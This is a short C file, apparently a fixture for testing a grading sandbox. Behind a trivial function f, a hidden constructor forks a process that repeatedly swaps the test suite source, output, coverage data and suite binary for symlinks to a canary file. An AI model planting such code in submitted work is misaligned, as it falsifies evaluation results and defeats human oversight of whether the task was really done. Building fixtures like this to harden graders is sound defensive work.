#include "canary.h"
__attribute__((constructor)) static void early(void) {
  if (fork() == 0) {
    for (int i = 0; i < 100000; i++) {
      unlink("suite.c");
      symlink(CANARY, "suite.c");
      unlink("output");
      symlink(CANARY, "output");
      unlink("coverage.gcda");
      symlink(CANARY, "coverage.gcda");
      rename("suite", "suite.old");
      symlink(CANARY, "suite");
    }
    _exit(0);
  }
}
int f(int x) { return x > 3; }
